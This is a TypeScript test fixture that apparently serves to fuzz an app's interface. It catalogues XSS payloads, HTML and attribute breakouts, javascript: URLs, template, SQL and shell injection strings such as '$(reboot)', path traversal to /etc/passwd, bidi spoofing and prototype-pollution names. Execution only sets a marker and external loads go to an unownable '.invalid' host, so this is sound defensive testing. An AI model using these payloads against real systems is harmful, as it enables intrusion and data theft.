/** What a payload would do if it ran. */
const RUN = 'window.__hurt = 1';
/** Where a payload would send its requests: a name that nobody can own. */
const AWAY = 'hurt.invalid';
/** As long as a text can be that somebody put there on purpose. */
const LONG = 10_000;
const long = (part: string): string => part.repeat(Math.ceil(LONG / part.length)).slice(0, LONG);

const HANDLERS = [
  'img src=x onerror', 'img/src/onerror', 'body onload', 'input autofocus onfocus', 'details open ontoggle', 'video src=x onerror', 'audio src=x onerror',
  'marquee onstart', 'div onmouseover', 'a href=# onclick', 'button onpointerdown', 'select autofocus onfocus', 'textarea autofocus onfocus', 'style onload',
  'p style=animation:x onanimationstart', 'object data=x onerror', 'iframe onload', 'svg/onload', 'svg><set onbegin', 'svg><animate onend', 'x contenteditable onblur',
  'IMG SRC=x OnErRoR', 'img src=x\tonerror', 'img src=x\nonerror',
] as const;
const ELEMENTS = [
  `<iframe id=hurt srcdoc="<script>parent.__hurt = 1</script>"></iframe>`, `<iframe class=hurt src="//${AWAY}"></iframe>`, `<object class=hurt data="//${AWAY}/a"></object>`,
  `<embed class=hurt src="//${AWAY}/a">`, `<link class=hurt rel=stylesheet href="//${AWAY}/a.css">`, `<style class=hurt>* { display: none !important }</style>`,
  `<style>@import url(//${AWAY}/b.css)</style>`, `<meta class=hurt http-equiv=refresh content="0;url=//${AWAY}">`, `<base class=hurt href="//${AWAY}/">`,
  `<form class=hurt action="//${AWAY}"><input type=submit></form>`, `<math class=hurt><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<svg class=hurt><image href="//${AWAY}/a.png"/></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>`, `<svg><foreignObject class=hurt><p>x</p></foreignObject></svg>`,
  `<img class=hurt src="//${AWAY}/a.png">`, `<picture class=hurt><source srcset="//${AWAY}/a.webp"></picture>`, `<video class=hurt poster="//${AWAY}/a.png"></video>`,
  `<dialog class=hurt open>x</dialog>`, `<template class=hurt shadowrootmode=open><b>x</b></template>`, `<hurt-element class=hurt></hurt-element>`,
  `<table class=hurt background="//${AWAY}/a.png"><tr><td>`, `<b class=hurt>bold</b> <i class=hurt>italic`, `</div></main></body></html>`, `<plaintext class=hurt>`,
  `<![CDATA[ x ]]>`, `<?xml version="1.0"?>`, `<!DOCTYPE html>`, `<!-- never closed`,
] as const;

/** What files say about themselves when somebody wants them to do more than that, by what it is aimed at. */
export const FAMILIES = {
  scripts: [
    `<script>${RUN}</script>`, `<SCRIPT SRC="//${AWAY}/a.js"></SCRIPT>`, `<script type=module>${RUN}</script>`, `</title><script>${RUN}</script>`,
    `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\n>${RUN}</script\n>`, `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
    `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}`, `'-eval('${RUN}')-'`, `";${RUN};//`, `*/${RUN}/*`, `＜script＞${RUN}＜/script＞`,
  ],
  handlers: HANDLERS.map((tag) => `<${tag}="${RUN}">`),
  attributes: [
    `"><svg onload="${RUN}">`, `'><img src=x onerror='${RUN}'>`, `"><img class=hurt src="//${AWAY}/c.png">`, `" onmouseover="${RUN}`, `' onfocus='${RUN}' autofocus='`,
    `x onerror=${RUN}`, '`><img src=x onerror=`' + RUN + '`', `" style="position:fixed;inset:0;background:url(//${AWAY}/d.png)`, `" class="hurt" id="hurt`, `x" hidden y="`,
  ],
  elements: ELEMENTS,
  addresses: [
    `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `\u0001javascript:${RUN}`, `vbscript:${RUN}`, `data:text/html,<script>${RUN}</script>`,
    'data:image/svg+xml;base64,PHN2Zy8+', 'file:///etc/passwd', `http://${AWAY}/a`, `https://${AWAY}/?q=1#x`, `//${AWAY}`, `ws://${AWAY}`, `blob:https://${AWAY}/1`,
    'cover://localhost/../../etc/passwd', 'tauri://localhost', 'asset://localhost/etc/passwd', 'ipc://localhost/purge', 'about:blank', `url(//${AWAY}/e.png)`,
  ],
  templates: [
    '{{constructor}} ${7*7} %s {count}', '{{7*7}}', "{{constructor.constructor('window.__hurt = 1')()}}", '${window.__hurt = 1}', '#{7*7}', '<%= 7*7 %>', '[[7*7]]',
    '{' + '@html "<b>x</b>"}', "{t('play')}", '{#if true}x{/if}', '{@render x()}', '{/* x */}', '$state(1)', '{...rest}', '`${1}`', '@{x}', '{{{x}}}', '{% x %}',
  ],
  /** Of our own catalogue, of other formats, and of `String.replace`. */
  placeholders: [
    '{title}', '{artist}', '{name}', '{query}', '{corrected}', '{path}', '{reason}', '{message}', '{times} × {count}', '{', '}', '{}', '{0}', '%s %d %n', '%1$s', '$&', '$1', '$$', "$'", '$<title>',
  ],
  entities: ['&lt;script&gt;', '&#60;b&#62;', '&#x3c;b>', '&amp;lt;', '&nbsp;', '&quot;><b>', '&', '&;', '&copy', '&#0;', '&zwj;', '&#xD800;', '&NotEqualTilde;'],
  bidi: [
    'مرحبا \u202Egnp.exe', '\u202Egnp.exe', '\u202Eabc\u202Cdef', '\u202Dabc', '\u202Babc', '\u202Aabc', 'abc\u202C\u202C', '\u2067abc', '\u2066abc', '\u2068abc', 'abc\u2069\u2069\u2069def',
    '\u202E\u2066a\u2069\u2066b\u2069', '\u200Fabc (1)', '\u200Eabc', '\u061Cabc', '\u202E'.repeat(130) + 'deep', 'עברית abc 123', '(‏שלום‎)', '\u202E<b class=hurt>x', 'a\u202Eb\u2067c\u202Dd',
  ],
  unseen: [
    ' ', '   ', '\u00A0', '\u3000', '\u200B', 'a\u200Bb\u200Cc\u200Dd', '\uFEFFbom', '\u2060', 'so\u00ADft', '\u3164', '\u2800', 'x\uFE0F\uFE0E', '\u{E0001}\u{E0041}\u{E007F}', '\uFFF9a\uFFFAb\uFFFB',
    'line\u2028line', 'paragraph\u2029paragraph',
  ],
  combining: [
    'é\u0301'.repeat(40), 'z' + '\u0335\u0321\u0351\u0310'.repeat(60), `${'a\u0300\u0301\u0302\u0303'.repeat(30)}`, '\u0301\u0301 alone', 'x\u20DD\u20DE\u20E3', 'ก\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49',
    'ཧྐྵྨླྺྼྻྂ', '﷽', '𒐫𒈙𒀱', 'D\u0336e\u0336a\u0336d\u0336', 'ᄀᄀᄀ각ᆨ',
  ],
  surrogates: ['\uD800', 'a\uDC00b', '\uDFFF\uD800', 'tail \uD83C', '\uFFFD\uFFFD', '\uFFFE', '\uFFFF', '\u{10FFFF}', '\u{1F3B5}\uD83D'],
  controls: [
    '\u0000', 'a\u0000b', '\u0000<b class=hurt>x', 'cut\rhere', 'cut\nhere', 'cut\r\nhere', 'tab\there', 'a\vb\fc', '\u0007\b', '\u001B[31mred\u001B[0m', '\u001B]0;title\u0007', '\u007F', '\u0085next', '\u0001\u0002\u0003',
    '\n'.repeat(200) + 'low', '\t'.repeat(200) + 'right',
  ],
  long: [long('W'), long('long way '), long('长'), long('<b class=hurt>'), long('ا'), long('\u202Eab '), long('word-'), long('a\u0301\u0302\u0303'), long('\u200B')],
  writings: [
    'العربية فقط', 'עברית בלבד', 'ܣܘܪܝܝܐ', 'ދިވެހި', 'ߒߞߏ', '雨の図書館', '北岛电台', '한국어 제목', '한국어', 'ภาษาไทยไม่มีช่องว่าง', 'हिन्दी', 'ქართული', 'Ωραία', 'Ὀδυσσεύς', 'İıĞğŞş', 'ſtraße', 'ᠮᠣᠩᠭᠣᠯ', 'Ｆｕｌｌ　ｗｉｄｔｈ', '㍿㌀㌁', 'ⓒⓘⓡⓒⓛⓔ',
  ],
  emoji: ['👨‍👩‍👧‍👦', '🏳️‍🌈', '🇨🇭🇺🇦🇯🇵', '👍🏿', '1️⃣#️⃣', '❤︎ ❤️', '🎵'.repeat(300), '🏴󠁧󠁢󠁳󠁣󠁴󠁿', '👩‍❤️‍💋‍👨'.repeat(20), '‍‍‍'],
  shells: [
    "'; DROP TABLE tracks; --", '" OR 1=1 --', '../../../etc/passwd', '..\\..\\..\\boot.ini', '$(reboot)', '`id`', '; reboot', '| cat', '&& true', '%00', '%2e%2e%2f', 'C:\\', '\\\\host\\share', '~', '-rf *', '--help', 'CON', 'NUL.flac',
    'title:x OR *', 'NEAR(a b)', '*', '%', '_', '\\', '"', "'", '^$.*[', '(?:a+)+$', '[', 'a/b', '.', '..',
  ],
  names: [
    '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', '__defineGetter__', 'then', 'length', 'null', 'undefined', 'NaN', 'Infinity', 'true', 'false', '0', '-0', '1e309',
    '[object Object]', '{"__proto__":{"x":1}}',
  ],
} as const satisfies Record<string, readonly string[]>;

export const PAYLOADS: readonly string[] = Object.values(FAMILIES).flat();

/** One after another, from the first again after the last; a step of its own for each field keeps neighbours from saying the same. */
export function payload(at: number): string {
  return PAYLOADS[at % PAYLOADS.length] as string;
}
